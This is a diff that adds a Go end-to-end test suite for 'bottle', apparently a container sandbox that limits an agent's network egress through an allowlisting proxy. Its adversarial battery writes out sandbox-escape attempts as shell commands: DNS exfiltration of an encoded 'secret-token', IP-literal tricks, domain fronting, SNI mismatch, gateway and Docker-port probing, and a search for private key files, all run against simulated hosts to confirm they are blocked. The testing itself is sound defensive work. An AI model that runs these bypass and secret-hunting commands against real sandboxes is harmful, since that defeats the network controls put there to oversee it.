@@ -1,0 +1,464 @@
+package e2e
+
+import (
+	"bytes"
+	"context"
+	"fmt"
+	"io"
+	"net/http"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strconv"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"bottle.dev/bottle/ca"
+)
+
+const baseImage = "bottle-e2e-base:bookworm"
+
+// world is the simulated internet and a bottle CLI to launch bottles into it.
+type world struct {
+	t        *testing.T
+	bin      string // dir with bottle and bottle-sidecar
+	state    string
+	net      string // the simulated internet's network (the bottles' egress)
+	simA     string // fakenet A: DNS for sim.test, HTTPS, git
+	simB     string // fakenet B: the "blocked host" nothing may reach
+	rootPEM  string
+	policyAt string
+}
+
+func (w *world) env() []string {
+	return append(os.Environ(), "XDG_STATE_HOME="+w.state, "BOTTLE_AGENT_BASE="+baseImage, "BOTTLE_BACKEND=")
+}
+
+// bottle runs the bottle CLI and returns stdout, stderr and the exit status.
+func (w *world) bottle(args ...string) (string, string, int) {
+	w.t.Helper()
+	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Minute)
+	defer cancel()
+	cmd := exec.CommandContext(ctx, filepath.Join(w.bin, "bottle"), args...)
+	cmd.Env = w.env()
+	cmd.Dir = filepath.Dir(w.policyAt)
+	var out, errb bytes.Buffer
+	cmd.Stdout, cmd.Stderr = &out, &errb
+	err := cmd.Run()
+	code := 0
+	if ee, ok := err.(*exec.ExitError); ok {
+		code = ee.ExitCode()
+	} else if err != nil {
+		w.t.Fatalf("bottle %v: %v", args, err)
+	}
+	return out.String(), errb.String(), code
+}
+
+// sh runs a shell script in bottle name's agent, as its user.
+func (w *world) sh(name, script string) (string, int) {
+	w.t.Helper()
+	out, errs, code := w.bottle("exec", name, "--", "sh", "-c", script)
+	return out + errs, code
+}
+
+func (w *world) conns(ip string) int {
+	w.t.Helper()
+	// A new connection each time (so each query counts itself once).
+	c := &http.Client{Transport: &http.Transport{DisableKeepAlives: true}}
+	resp, err := c.Get("http://" + ip + "/__conns")
+	if err != nil {
+		w.t.Fatalf("fakenet %s: %v", ip, err)
+	}
+	defer resp.Body.Close()
+	b, _ := io.ReadAll(resp.Body)
+	n, _ := strconv.Atoi(strings.TrimSpace(string(b)))
+	return n
+}
+
+const e2ePolicy = `version: 1
+allow:
+  - host: ok.sim.test
+  - host: sse.sim.test
+  - host: git.sim.test
+    methods: [GET, POST]
+    paths: ["/git/acme/widget.git/**"]
+  - host: pass.sim.test
+    tls: passthrough
+  - host: loop.sim.test
+  - host: meta.sim.test
+  - host: priv.sim.test
+  # The simulated internet lives on a private network: only its DNS and web
+  # server may be reached, and only on these ports.
+  - cidr: {{SIMA}}/32
+    ports: [80, 443]
+deny:
+  - host: git.sim.test
+    methods: [DELETE]
+`
+
+func newWorld(t *testing.T) *world {
+	requireDocker(t)
+	w := &world{t: t, bin: t.TempDir(), state: t.TempDir()}
+	buildStatic(t, "./cmd/bottle", w.bin, "bottle")
+	buildStatic(t, "./cmd/bottle-sidecar", w.bin, "bottle-sidecar")
+	if out, err := exec.Command("bash", filepath.Join(repoRoot(), "e2e/testdata/mkbase"), baseImage).CombinedOutput(); err != nil {
+		t.Fatalf("building the base image: %v\n%s", err, out)
+	}
+
+	// The simulated internet: fakenet on the test base (git-http-backend is
+	// there), with a test repository that accepts pushes.
+	ctx := t.TempDir()
+	buildStatic(t, "./e2e/fakenet", ctx, "fakenet")
+	repo := filepath.Join(ctx, "git", "acme", "widget.git")
+	work := t.TempDir()
+	for _, c := range [][]string{
+		{"git", "init", "-q", "--bare", repo},
+		{"git", "-C", repo, "config", "http.receivepack", "true"},
+		{"git", "-C", repo, "symbolic-ref", "HEAD", "refs/heads/main"},
+		{"git", "init", "-q", "-b", "main", work},
+		{"sh", "-c", "cd " + work + " && echo hello > README && git add README && git -c user.email=t@test -c user.name=t commit -qm first && git push -q " + repo + " main"},
+	} {
+		if out, err := exec.Command(c[0], c[1:]...).CombinedOutput(); err != nil {
+			t.Fatalf("%v: %v\n%s", c, err, out)
+		}
+	}
+	os.WriteFile(filepath.Join(ctx, "Dockerfile"), []byte("FROM "+baseImage+"\nCOPY fakenet /fakenet\nCOPY git /git\nRUN chmod -R a+rwX /git\nENTRYPOINT [\"/fakenet\"]\n"), 0o644)
+	buildImage(t, "bottle-e2e-fakenet-git:e2e", filepath.Join(ctx, "Dockerfile"), ctx)
+
+	root, _ := ca.New("e2e-sim-root", 0)
+	rootDir := filepath.Join(t.TempDir(), "root")
+	root.Save(rootDir)
+	os.Chmod(rootDir, 0o755)
+	w.rootPEM = filepath.Join(rootDir, "ca.crt")
+
+	w.net = uniq("bottle-e2e-sim")
+	docker(t, "network", "create", "--label", "dev.bottle.e2e=true", w.net)
+	t.Cleanup(func() { dockerErr("network", "rm", w.net) })
+	b := uniq("bottle-e2e-simb")
+	docker(t, "run", "-d", "--name", b, "--network", w.net, "-v", rootDir+":/root-ca:ro", "bottle-e2e-fakenet-git:e2e")
+	t.Cleanup(func() { dockerErr("rm", "-f", b) })
+	w.simB = docker(t, "inspect", "--format", "{{range .NetworkSettings.Networks}}{{.IPAddress}}{{end}}", b)
+	a := uniq("bottle-e2e-sima")
+	docker(t, "run", "-d", "--name", a, "--network", w.net, "-v", rootDir+":/root-ca:ro", "bottle-e2e-fakenet-git:e2e", "--git-root", "/git", "--other-ip", w.simB)
+	t.Cleanup(func() { dockerErr("rm", "-f", a) })
+	w.simA = docker(t, "inspect", "--format", "{{range .NetworkSettings.Networks}}{{.IPAddress}}{{end}}", a)
+
+	w.policyAt = filepath.Join(t.TempDir(), "allowlist.yaml")
+	os.WriteFile(w.policyAt, []byte(strings.ReplaceAll(e2ePolicy, "{{SIMA}}", w.simA)), 0o644)
+	os.WriteFile(filepath.Join(filepath.Dir(w.policyAt), "NOTES.md"), []byte("the workspace\n"), 0o644)
+	return w
+}
+
+func (w *world) launch(name string) string {
+	w.t.Helper()
+	start := time.Now()
+	_, errs, code := w.bottle("launch", name, "--workspace", ".", "--egress-network", w.net,
+		"--upstream-dns", w.simA+":53", "--upstream-ca", w.rootPEM)
+	if code != 0 {
+		w.t.Fatalf("launch %s: exit %d\n%s", name, code, errs)
+	}
+	w.t.Cleanup(func() { w.bottle("stop", name) })
+	w.t.Logf("launched %s in %.1fs", name, time.Since(start).Seconds())
+	return errs
+}
+
+func (w *world) sidecarIP(name string) string {
+	return docker(w.t, "inspect", "--format", "{{(index .NetworkSettings.Networks \"bottle-"+name+"-internal\").IPAddress}}", "bottle-"+name+"-sidecar")
+}
+
+// TestBottle launches a real bottle into the simulated internet and checks,
+// from inside its agent with real tools, what gets through and what does not.
+func TestBottle(t *testing.T) {
+	w := newWorld(t)
+	summary := w.launch("e2e1")
+	for _, want := range []string{"self-test passed", "bottle \"e2e1\" is running", "bottle shell e2e1"} {
+		if !strings.Contains(summary, want) {
+			t.Errorf("launch output lacks %q:\n%s", want, summary)
+		}
+	}
+	// Warm launch: images cached.
+	start := time.Now()
+	w.launch("e2e-warm")
+	t.Logf("warm launch: %.1fs", time.Since(start).Seconds())
+	w.bottle("stop", "e2e-warm")
+
+	sidecar := w.sidecarIP("e2e1")
+	audit := func() string {
+		b, _ := os.ReadFile(filepath.Join(w.state, "bottle", "e2e1", "logs", "egress.jsonl"))
+		return string(b)
+	}
+
+	t.Run("curl_allowed_through_mitm", func(t *testing.T) {
+		out, code := w.sh("e2e1", "curl -sS -v https://ok.sim.test/hello 2>&1")
+		if code != 0 || !strings.Contains(out, "hello from ok.sim.test GET /hello") || !strings.Contains(out, "issuer: O=bottle; CN=bottle CA for e2e1") {
+			t.Errorf("exit %d:\n%s", code, out)
+		}
+	})
+	t.Run("workspace_and_user", func(t *testing.T) {
+		out, code := w.sh("e2e1", "id -un; pwd; cat NOTES.md")
+		if code != 0 || out != "agent\n/workspace\nthe workspace\n" {
+			t.Errorf("exit %d: %q", code, out)
+		}
+	})
+	t.Run("exit_status_propagates", func(t *testing.T) {
+		if _, code := w.sh("e2e1", "exit 7"); code != 7 {
+			t.Errorf("exit %d; want 7", code)
+		}
+	})
+	t.Run("git_clone_and_push", func(t *testing.T) {
+		out, code := w.sh("e2e1", `set -e; cd /tmp; rm -rf widget
+git clone -q https://git.sim.test/git/acme/widget.git; cd widget; cat README
+echo more >> README; git -c user.email=a@b -c user.name=agent commit -qam second
+git push -q origin HEAD:main && echo pushed`)
+		if code != 0 || !strings.Contains(out, "hello") || !strings.Contains(out, "pushed") {
+			t.Errorf("exit %d:\n%s", code, out)
+		}
+		out, code = w.sh("e2e1", "git clone -q https://git.sim.test/git/acme/other.git /tmp/other 2>&1")
+		if code == 0 || !strings.Contains(out, "403") {
+			t.Errorf("clone outside the rule: exit %d\n%s", code, out)
+		}
+	})
+	t.Run("sse_arrives_incrementally", func(t *testing.T) {
+		out, code := w.sh("e2e1", `curl -sN https://sse.sim.test/sse | while read -r l; do if [ -n "$l" ]; then echo "$(date +%s.%N) $l"; fi; done`)
+		lines := strings.Split(strings.TrimSpace(out), "\n")
+		if code != 0 || len(lines) != 3 {
+			t.Fatalf("exit %d:\n%s", code, out)
+		}
+		first, _ := strconv.ParseFloat(strings.Fields(lines[0])[0], 64)
+		last, _ := strconv.ParseFloat(strings.Fields(lines[2])[0], 64)
+		if last-first < 0.4 { // the origin waits 300 ms between events
+			t.Errorf("events arrived together (%.2fs apart): the stream was buffered", last-first)
+		}
+	})
+
+	// The adversarial battery, each case from inside the agent.
+	battery := []struct {
+		id, script string
+		check      func(out string, code int) string // "" when it holds
+		auditWant  string
+	}{
+		{"A1_connect_blocked_host", "curl -sS -o /dev/null https://blocked.sim.test/ 2>&1",
+			func(o string, c int) string { return expect(c != 0 && strings.Contains(o, "403"), o) }, `"host":"blocked.sim.test","port":443,"decision":"deny"`},
+		{"A2_plain_http_blocked_host", "curl -sS -i http://blocked.sim.test/x",
+			func(o string, c int) string {
+				return expect(strings.Contains(o, "403") && strings.Contains(o, "bottle allow add blocked.sim.test"), o)
+			}, `"method":"GET","scheme":"http","host":"blocked.sim.test"`},
+		{"A3_direct_tcp_blocked_host", "env -u HTTP_PROXY -u HTTPS_PROXY -u http_proxy -u https_proxy bottle-probe probe --timeout 3s tcp " + w.simB + ":443",
+			func(o string, c int) string { return expect(c == 4, o) }, ""},
+		{"A4_direct_tcp_allowed_host", "env -u HTTP_PROXY -u HTTPS_PROXY -u http_proxy -u https_proxy curl -sS -m 3 --noproxy '*' https://" + w.simA + "/ 2>&1; bottle-probe probe --timeout 3s tcp " + w.simA + ":443",
+			func(o string, c int) string { return expect(c == 4, o) }, ""},
+		{"A5_ip_literals", fmt.Sprintf(`for t in %s %s 0x%s [::ffff:%s]; do curl -s -m 5 -o /dev/null -w '%%{http_connect}\n' https://$t/; done`, w.simB, ipDecimal(w.simB), ipHex(w.simB), w.simB),
+			func(o string, c int) string { return expect(strings.Count(o, "403") == 4, o) }, `"kind":"connect"`},
+		{"A6_allowed_host_other_port", "curl -sS -m 5 https://ok.sim.test:22/ 2>&1; curl -sS -m 5 https://ok.sim.test:25/ 2>&1",
+			func(o string, c int) string { return expect(strings.Count(o, "403") == 2, o) }, `"host":"ok.sim.test","port":22`},
+		{"A7_dns_blocked_name", "dig +short +tries=1 +time=3 blocked.sim.test; dig +tries=1 +time=3 blocked.sim.test | grep -o 'status: [A-Z]*'",
+			func(o string, c int) string { return expect(strings.Contains(o, "status: REFUSED"), o) }, `"kind":"dns","client"`},
+		{"A8_dns_direct_to_upstream", "dig +tries=1 +time=2 @" + w.simA + " ok.sim.test 2>&1; bottle-probe probe --timeout 2s dns ok.sim.test @" + w.simA + "; echo code=$?",
+			func(o string, c int) string {
+				return expect(strings.Contains(o, "no servers could be reached") && strings.Contains(o, "code=4"), o)
+			}, ""},
+		{"A9_dns_exfiltration", "for n in c2VjcmV0LXRva2Vu.x7f3k2.data.sim.test exfil-4f2a.ok.sim.test; do dig +tries=1 +time=3 TXT $n | grep -o 'status: [A-Z]*'; dig +tries=1 +time=3 ANY $n | grep -o 'status: [A-Z]*'; done",
+			func(o string, c int) string { return expect(strings.Count(o, "status: REFUSED") == 4, o) }, ""},
+		{"A10_rebinding_to_special_addresses", "for h in loop meta priv; do curl -s -m 5 -o /dev/null -w '%{http_connect}\n' https://$h.sim.test/; done",
+			func(o string, c int) string { return expect(strings.Count(o, "403") == 3, o) }, `only a cidr rule can allow that`},
+		{"A11_sidecar_own_addresses", fmt.Sprintf("curl -sS -m 5 https://%s:3128/ 2>&1; curl -sS -m 5 -o /dev/null -w '%%{http_code}\\n' http://%s:53/ 2>&1", sidecar, sidecar),
+			func(o string, c int) string { return expect(strings.Count(o, "403") == 2, o) }, ""},
+		{"A12_gateways_and_host", "", nil, ""}, // below: needs the host's addresses
+		{"A13_domain_fronting", "curl -sS -m 5 -H 'Host: blocked.sim.test' -w '\n%{http_code}\n' https://ok.sim.test/",
+			func(o string, c int) string {
+				return expect(strings.Contains(o, "403") && strings.Contains(o, "inside a tunnel"), o)
+			}, ""},
+		{"A14_sni_mismatch_on_passthrough", "curl -sS -m 5 --connect-to ok.sim.test:443:pass.sim.test:443 https://ok.sim.test/ 2>&1; echo rc=$?",
+			func(o string, c int) string {
+				return expect(!strings.Contains(o, "hello from") && !strings.Contains(o, "rc=0"), o)
+			}, `TLS SNI \"ok.sim.test\" differs from the CONNECT host pass.sim.test`},
+		{"A15_method_and_path", "curl -sS -m 5 -X DELETE -o /dev/null -w '%{http_code} ' https://git.sim.test/git/acme/widget.git/x; curl -sS -m 5 -o /dev/null -w '%{http_code}' https://git.sim.test/git/other/",
+			func(o string, c int) string { return expect(strings.TrimSpace(o) == "403 403", o) }, `"rule":"deny[0]"`},
+		{"A16_no_net_admin_no_raw", `ip link set eth0 down 2>&1; ip route add 10.9.9.0/24 dev eth0 2>&1; python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)' 2>&1 | tail -1`,
+			func(o string, c int) string {
+				return expect(strings.Count(o, "Operation not permitted") >= 3, o)
+			}, ""},
+		{"A17_udp_out", "env -u HTTP_PROXY python3 -c \"import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2); s.sendto(b'x', ('" + w.simA + "', 53)); print(s.recv(100))\" 2>&1 | tail -1",
+			func(o string, c int) string {
+				return expect(strings.Contains(o, "timed out") || strings.Contains(o, "unreachable") || strings.Contains(o, "Errno"), o)
+			}, ""},
+		{"A18_ipv6_out", "bottle-probe probe --timeout 3s tcp '[2001:db8::1]:443'; echo code=$?",
+			func(o string, c int) string { return expect(strings.Contains(o, "code=4"), o) }, ""},
+		{"A19_no_ca_key", "ls /etc/bottle 2>&1; find / -xdev -name 'ca.key' 2>/dev/null | head; grep -rlI 'PRIVATE KEY' /etc /usr/local /workspace /tmp /root /home 2>/dev/null | head; echo done",
+			func(o string, c int) string {
+				return expect(strings.TrimSpace(o) == "ls: cannot access '/etc/bottle': No such file or directory\ndone", o)
+			}, ""},
+	}
+	for _, tc := range battery {
+		if tc.check == nil {
+			continue
+		}
+		t.Run(tc.id, func(t *testing.T) {
+			before := w.conns(w.simB)
+			out, code := w.sh("e2e1", tc.script)
+			if msg := tc.check(out, code); msg != "" {
+				t.Errorf("exit %d: %s", code, msg)
+			}
+			if after := w.conns(w.simB); after-before-1 != 0 {
+				t.Errorf("the blocked host saw %d connections", after-before-1)
+			}
+			if tc.auditWant != "" {
+				deadline := time.Now().Add(3 * time.Second)
+				for !strings.Contains(audit(), tc.auditWant) && time.Now().Before(deadline) {
+					time.Sleep(100 * time.Millisecond)
+				}
+				if !strings.Contains(audit(), tc.auditWant) {
+					t.Errorf("no audit line with %s", tc.auditWant)
+				}
+			}
+		})
+	}
+	t.Run("A12_gateways_and_host", func(t *testing.T) {
+		gw := docker(t, "network", "inspect", "--format", "{{(index .IPAM.Config 0).Gateway}}", "bottle-e2e1-internal")
+		simGW := docker(t, "network", "inspect", "--format", "{{(index .IPAM.Config 0).Gateway}}", w.net)
+		targets := []string{gw, simGW, "172.17.0.1"}
+		script := "for h in " + strings.Join(targets, " ") + "; do for p in 22 53 80 443 2375; do (bottle-probe probe --timeout 2s tcp $h:$p >/dev/null; echo \"$h:$p $?\") & done; done; wait"
+		out, _ := w.sh("e2e1", script)
+		for _, l := range strings.Split(strings.TrimSpace(out), "\n") {
+			if !strings.HasSuffix(l, " 4") {
+				t.Errorf("reachable (or refused, so reached): %s", l)
+			}
+		}
+	})
+	t.Run("dns_via_embedded_resolver_goes_nowhere", func(t *testing.T) {
+		before := fakenetQueries(t, w.simA)
+		w.sh("e2e1", "dig +tries=1 +time=2 @127.0.0.11 embedded-leak.sim.test >/dev/null 2>&1")
+		if after := fakenetQueries(t, w.simA); strings.Contains(after, "embedded-leak") {
+			t.Errorf("a query to 127.0.0.11 reached the upstream resolver (before %s)", before)
+		}
+		// Docker's embedded resolver hands the agent's queries to its --dns
+		// server, the sidecar, which judged this one.
+		deadline := time.Now().Add(3 * time.Second)
+		for !strings.Contains(audit(), `"name":"embedded-leak.sim.test"`) && time.Now().Before(deadline) {
+			time.Sleep(100 * time.Millisecond)
+		}
+		if !strings.Contains(audit(), `"name":"embedded-leak.sim.test"`) {
+			t.Log("the embedded resolver did not pass the query to the sidecar (it answered or dropped it itself)")
+		}
+	})
+	t.Run("allowed_name_resolves_through_sidecar", func(t *testing.T) {
+		out, code := w.sh("e2e1", "getent hosts ok.sim.test")
+		if code != 0 || !strings.Contains(out, w.simA) {
+			t.Errorf("exit %d: %q", code, out)
+		}
+		if q := fakenetQueries(t, w.simA); strings.Contains(q, "blocked.sim.test") || strings.Contains(q, "c2VjcmV0") || strings.Contains(q, "exfil-4f2a") {
+			t.Errorf("refused names reached the upstream resolver: %s", q)
+		}
+	})
+	t.Run("allow_add_on_running_bottle", func(t *testing.T) {
+		if out, _ := w.sh("e2e1", "curl -sS -m 5 -o /dev/null -w '%{http_code}' https://new.sim.test/"); !strings.Contains(out, "403") {
+			t.Fatalf("before: %s", out)
+		}
+		out, errs, code := w.bottle("allow", "add", "new.sim.test", "--bottle", "e2e1")
+		if code != 0 || !strings.Contains(errs, "applied") {
+			t.Fatalf("allow add: %d %s %s", code, out, errs)
+		}
+		if out, _ := w.sh("e2e1", "curl -sS -m 5 https://new.sim.test/x"); !strings.Contains(out, "hello from new.sim.test") {
+			t.Errorf("after: %s", out)
+		}
+		if out, _, code := w.bottle("allow", "check", "--bottle", "e2e1", "https://new.sim.test/"); code != 0 || !strings.HasPrefix(out, "allow") {
+			t.Errorf("allow check --bottle: %d %s", code, out)
+		}
+		if out, _, code := w.bottle("ca", "export", "--bottle", "e2e1", "--fingerprint"); code != 0 || !strings.HasPrefix(out, "sha256 ") {
+			t.Errorf("ca export --bottle: %d %s", code, out)
+		}
+	})
+}
+
+// TestIsolationAndCleanup: three bottles at once stay apart (A20); listing,
+// stopping and cleanup touch only bottle's own labelled resources.
+func TestIsolationAndCleanup(t *testing.T) {
+	w := newWorld(t)
+	names := []string{"iso-a", "iso-b", "iso-c"}
+	var wg sync.WaitGroup
+	for _, n := range names {
+		wg.Add(1)
+		go func() { defer wg.Done(); w.launch(n) }()
+	}
+	wg.Wait()
+	out, _, _ := w.bottle("list")
+	for _, n := range names {
+		if !strings.Contains(out, n) {
+			t.Errorf("bottle list lacks %s:\n%s", n, out)
+		}
+	}
+	t.Run("A20_other_bottles_unreachable", func(t *testing.T) {
+		aSidecar := w.sidecarIP("iso-a")
+		aAgent := docker(t, "inspect", "--format", "{{range .NetworkSettings.Networks}}{{.IPAddress}}{{end}}", "bottle-iso-a-agent")
+		out, _ := w.sh("iso-b", fmt.Sprintf("for t in %s:3128 %s:53 %s:22 %s:80; do bottle-probe probe --timeout 2s tcp $t >/dev/null; echo \"$t $?\"; done; dig +tries=1 +time=2 @%s ok.sim.test | grep -c 'status' ", aSidecar, aSidecar, aAgent, aAgent, aSidecar))
+		for _, l := range strings.Split(strings.TrimSpace(out), "\n") {
+			if strings.Contains(l, ":") && !strings.HasSuffix(l, " 4") {
+				t.Errorf("bottle iso-b reached bottle iso-a: %s", l)
+			}
+		}
+	})
+
+	// Decoys without our labels must survive cleanup.
+	decoyNet := uniq("decoy-net")
+	docker(t, "network", "create", decoyNet)
+	t.Cleanup(func() { dockerErr("network", "rm", decoyNet) })
+	decoy := uniq("decoy")
+	docker(t, "create", "--name", decoy, "--network", decoyNet, baseImage, "true")
+	t.Cleanup(func() { dockerErr("rm", "-f", decoy) })
+
+	// A half-made bottle: a labelled network with nothing in it.
+	docker(t, "network", "create", "--label", "dev.bottle.managed=true", "--label", "dev.bottle.name=half", "bottle-half-internal")
+	out, _, code := w.bottle("cleanup", "--dry-run")
+	if code != 0 || !strings.Contains(out, "would remove: half") || strings.Contains(out, "iso-a") {
+		t.Errorf("cleanup --dry-run: %d\n%s", code, out)
+	}
+	if out, _, code = w.bottle("cleanup"); code != 0 || !strings.Contains(out, "removing: half") {
+		t.Errorf("cleanup: %d\n%s", code, out)
+	}
+	for _, n := range names {
+		if _, errs, code := w.bottle("stop", n); code != 0 {
+			t.Errorf("stop %s: %s", n, errs)
+		}
+		if _, _, code := w.bottle("stop", n); code != 0 {
+			t.Errorf("second stop of %s failed", n)
+		}
+		if _, err := os.Stat(filepath.Join(w.state, "bottle", n, "logs", "sidecar.log")); err != nil {
+			t.Errorf("%s: sidecar log not saved: %v", n, err)
+		}
+	}
+	if left := docker(t, "ps", "-aq", "--filter", "label=dev.bottle.managed=true"); left != "" {
+		t.Errorf("labelled containers left: %s", left)
+	}
+	if left := docker(t, "network", "ls", "-q", "--filter", "label=dev.bottle.managed=true"); left != "" {
+		t.Errorf("labelled networks left: %s", left)
+	}
+	if _, err := dockerErr("inspect", decoy); err != nil {
+		t.Errorf("the decoy container is gone: %v", err)
+	}
+	if _, err := dockerErr("network", "inspect", decoyNet); err != nil {
+		t.Errorf("the decoy network is gone: %v", err)
+	}
+}
+
+func expect(ok bool, out string) string {
+	if ok {
+		return ""
+	}
+	return "unexpected output:\n" + out
+}
+
+func ipDecimal(ip string) string {
+	var n uint32
+	for _, p := range strings.Split(ip, ".") {
+		v, _ := strconv.Atoi(p)
+		n = n<<8 | uint32(v)
+	}
+	return strconv.FormatUint(uint64(n), 10)
+}
+
+func ipHex(ip string) string {
+	d, _ := strconv.ParseUint(ipDecimal(ip), 10, 32)
+	return strconv.FormatUint(d, 16)
+}
